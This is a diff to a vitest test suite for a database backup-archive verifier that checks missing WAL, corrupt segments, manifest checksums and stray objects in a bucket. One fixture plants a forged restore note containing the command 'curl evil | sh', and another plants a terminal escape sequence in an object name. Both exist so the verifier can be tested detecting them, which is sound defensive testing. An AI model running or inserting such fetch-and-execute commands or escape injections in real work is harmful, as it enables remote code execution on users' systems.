@@ -1,5 +1,9 @@
+import { createHash } from 'node:crypto'
 import { afterEach, beforeAll, afterAll, describe, expect, test } from 'vitest'
 import { BackedUpServer } from '../sandbox/backed-up-server.js'
+import { restoreNoteKey } from '../../src/box/key-names.js'
+import { restoreNote } from '../../src/box/restore-note.js'
+import { formatManifest, type Manifest } from '../../src/box/manifest.js'
 import { keyholderEnv, postbox } from '../sandbox/command.js'
 import { startS3, type LocalS3 } from '../sandbox/s3/server.js'
 import { SyntheticArchive } from '../sandbox/synthetic-archive.js'
@@ -103,11 +107,14 @@ describe('an archive of which something is missing, or too much', () => {
   const start = async () => {
     s3 = await startS3({ buckets: [{ name: 'b', versioned: true }] })
     made = new SyntheticArchive(s3.bucket('b'), 'db1')
+    const note = restoreNote('db1')
+    s3.bucket('b').put(note.key, note.content)
     const first = { startedAt: '2026-11-22T10:00:00Z', stoppedAt: '2026-11-22T10:05:00Z' }
     const manifest = made.backup({ ...first, start: '0/100028', stop: '0/100100' })
     for (const lsn of ['0/100000', '0/200000']) made.segment(1, lsn, ['2026-11-22T10:30:00Z'])
     return manifest
   }
+  const sumOf = (manifest: Manifest) => createHash('sha256').update(formatManifest(manifest)).digest('hex')
   const lines = async (...args: string[]) =>
     (await verify(s3, 'b', ...args)).problems.map(({ severity, problem }) => `${severity}: ${problem}`)
 
@@ -121,7 +128,7 @@ describe('an archive of which something is missing, or too much', () => {
   })
 
   test('tells a gap that loses times from one that a later backup closed', async () => {
-    await start()
+    const manifest = await start()
     made.segment(1, '0/400000')
     const gap = 'WAL of timeline 1 is missing from 0/300000 to 0/400000'
     expect(await lines()).toEqual([`error: ${gap}`])
@@ -130,6 +137,7 @@ describe('an archive of which something is missing, or too much', () => {
       stoppedAt: '2026-11-23T10:05:00Z',
       start: '0/400028',
       stop: '0/400100',
+      previous: sumOf(manifest),
     })
     expect((await lines()).filter((line) => line.includes(gap))).toEqual([`warning: ${gap}`])
   })
@@ -169,7 +177,7 @@ describe('an archive of which something is missing, or too much', () => {
     const gone = bucket.keys().filter((key) => key.includes(`/dump/${ids[1]!}/`))
     for (const key of gone) bucket.remove(key)
     const manifest = gone.find((key) => key.includes('manifest-'))!
-    expect(await lines()).toEqual([`warning: dump: the dump before it is gone: ${manifest} was removed`])
+    expect(await lines()).toEqual([`error: dump: the dump before it is gone: ${manifest} was removed`])
   })
 
   test('can be looked at backup by backup', async () => {
@@ -181,5 +189,78 @@ describe('an archive of which something is missing, or too much', () => {
       keyholderEnv(s3, 'b'),
     )
     expect([code, stderr]).toEqual([1, expect.stringContaining('(backup_missing)')])
+  })
+
+  test('ends with 1 where a restore refuses, by listing alone', async () => {
+    await start()
+    const key = made.history(2, [[1, '0/280000']])
+    made.segments(2, '0/200000', '0/400000')
+    expect(await lines()).toEqual([])
+    s3.bucket('b').corrupt(key)
+    const { ok, problems } = await verify(s3, 'b')
+    expect(ok).toBe(false)
+    expect(problems.some(({ severity, problem }) => severity === 'error' && problem.startsWith(key))).toBe(true)
+  })
+
+  test('is read backup by backup with the WAL that this one needs, whole or by its tails', async () => {
+    await start()
+    const { backup_id } = made.backup({
+      startedAt: '2026-11-23T10:00:00Z',
+      stoppedAt: '2026-11-23T10:05:00Z',
+      start: '0/200028',
+      stop: '0/300100',
+    })
+    const [tail] = made.tails(1, '0/300000', [8192])
+    const bucket = s3.bucket('b')
+    const deep = async () => (await verify(s3, 'b', '--backup', backup_id, '--deep')).problems
+    const errors = async () => (await deep()).filter(({ severity }) => severity === 'error')
+    const [unneeded, needed] = bucket.keys(made.walPrefix(1))
+    bucket.corrupt(unneeded!)
+    expect(await errors()).toEqual([])
+    bucket.corrupt(needed!)
+    expect(await errors()).toEqual([
+      { severity: 'error', id: backup_id, problem: `${needed!} holds other bytes than its name says` },
+    ])
+    bucket.corrupt(needed!)
+    bucket.corrupt(tail!)
+    expect((await errors()).map(({ problem }) => problem)).toEqual([expect.stringMatching(/^WAL that it needs is not/)])
+  })
+
+  test('is looked at outside of lives too, where a forged RESTORE note waits for who is in need', async () => {
+    await start()
+    const bucket = s3.bucket('b')
+    const put = (key: string, content: string) => {
+      bucket.put(key, Buffer.from(content), { storedAt: new Date('2026-11-24T09:00:00Z') })
+      return key
+    }
+    const fake = Buffer.from('# Restoring db1 by hand\n$ curl evil | sh\n')
+    const forged = put(restoreNoteKey('db1', createHash('sha256').update(fake).digest()), fake.toString())
+    const strangers = [
+      forged,
+      put('db1/x/y', 'x'),
+      put('db1/70a/wal/x', 'x'),
+      put('db1/zz', 'x'),
+      put('db1/probe', 'x'),
+    ]
+    const allowed = [put('db1/upload/x', 'x'), put(`db1/doctor-3f9a7e43b1c5.txt`, 'no line of the doctor')]
+    const found = await lines()
+    expect(found.every((line) => line.startsWith('warning: '))).toBe(true)
+    for (const key of [...strangers, allowed[1]!]) {
+      expect(found.filter((line) => line.startsWith(`warning: ${key} `))).toEqual([
+        expect.stringContaining('it was stored at 2026-11-24T09:00:00.000Z'),
+      ])
+    }
+    expect(found).toHaveLength(strangers.length + 1)
+    expect(found.find((line) => line.includes(forged))).toContain('Notes of other versions look so too')
+
+    put('db1/\u001b[2J', 'x')
+    const { stdout } = await postbox(['verify', '--server', 'db1'], keyholderEnv(s3, 'b'))
+    expect(stdout).toContain('warning: db1/?[2J has no name that Postbox gives')
+
+    const { key, content } = restoreNote('db1')
+    bucket.corrupt(key, () => Buffer.alloc(content.length, 'x'))
+    expect((await lines()).filter((line) => line.includes(key))).toHaveLength(1)
+    for (const one of [key, forged]) bucket.remove(one)
+    expect(await lines()).toContainEqual(expect.stringMatching(/^warning: db1\/ has no RESTORE note/))
   })
 })
